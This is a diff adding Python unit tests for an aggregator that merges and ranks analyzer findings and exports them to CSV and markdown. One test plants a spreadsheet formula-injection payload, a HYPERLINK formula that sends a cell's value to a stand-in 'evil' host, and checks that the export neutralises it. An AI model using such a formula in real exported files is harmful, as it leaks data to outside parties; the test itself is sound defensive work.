@@ -1,0 +1,76 @@
+from __future__ import annotations
+
+import csv
+import io
+from typing import Any
+
+from runner.insights import COLUMNS, aggregate, as_csv, as_markdown
+
+
+def insight(text: str, confidence: float, *quotes: tuple[str, str]) -> dict[str, Any]:
+    evidence = [{"segment": segment, "quote": quote} for segment, quote in quotes]
+    return {"text": text, "confidence": confidence, "category": "risk", "evidence": evidence}
+
+
+def answers(**insights: list[dict[str, Any]]) -> dict[str, Any]:
+    return {name: {"insights": found, "structured_data": {}} for name, found in insights.items()}
+
+
+PUMP = ("S0001", "the pump failed twice")
+
+
+def test_the_most_confident_comes_first_and_nothing_is_lost() -> None:
+    found = aggregate(
+        answers(a=[insight("Boats are late.", 0.3), insight("Pumps fail.", 0.9)], b=[])
+    )
+
+    assert [f.text for f in found] == ["Pumps fail.", "Boats are late."]
+
+
+def test_the_same_finding_of_two_analyzers_is_one_with_both_their_evidence() -> None:
+    found = aggregate(
+        answers(
+            a=[insight("The pump is not reliable enough for the trial.", 0.6, PUMP)],
+            b=[
+                insight(
+                    "The pump is not reliable enough for the trial in April.",
+                    0.8,
+                    PUMP,
+                    ("S0007", "we cannot count on it"),
+                )
+            ],
+        )
+    )
+
+    assert [(f.text, f.analyzers) for f in found] == [
+        ("The pump is not reliable enough for the trial in April.", ["b", "a"])
+    ]
+    assert [e["segment"] for e in found[0].evidence] == ["S0001", "S0007"]
+
+
+def test_findings_that_only_share_a_quote_stay_apart() -> None:
+    found = aggregate(
+        answers(
+            a=[insight("Jonas doubts the pump.", 0.6, PUMP)],
+            b=[insight("Maintenance was skipped to save money.", 0.5, PUMP)],
+        )
+    )
+
+    assert len(found) == 2
+
+
+def test_no_cell_of_the_table_is_taken_for_a_formula() -> None:
+    evil = insight('=HYPERLINK("http://evil/?q="&A1)', 0.5, ("S0001", "@SUM(1)"))
+    rows = list(csv.reader(io.StringIO(as_csv(aggregate(answers(a=[evil]))))))
+
+    assert tuple(rows[0]) == COLUMNS
+    assert rows[1][0] == '\'=HYPERLINK("http://evil/?q="&A1)'
+    assert rows[1][5] == "'@SUM(1)"
+
+
+def test_the_page_names_who_found_what_and_where() -> None:
+    page = as_markdown(aggregate(answers(say_means=[insight("Pumps fail.", 0.9, PUMP)])), 8)
+
+    assert "From 8 analyzers, the most confident first." in page
+    assert "1. Pumps fail. *risk, confidence 0.90; say means*" in page
+    assert "> the pump failed twice (S0001)" in page
